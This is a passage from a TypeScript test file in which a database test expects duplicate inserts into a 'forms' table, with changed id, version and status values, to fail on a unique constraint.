        .insertInto('forms')
        .values({ ...row, id: 'form_dup', version: 9 })
        .execute(),
    ).rejects.toThrow(/unique|UNIQUE/);
    await expect(
      h.db.kysely
        .insertInto('forms')
        .values({ ...row, id: 'form_dup2', version: 2, status: 'ARCHIVED' })
        .execute(),
    ).rejects.toThrow(/unique|UNIQUE/);
  });
});
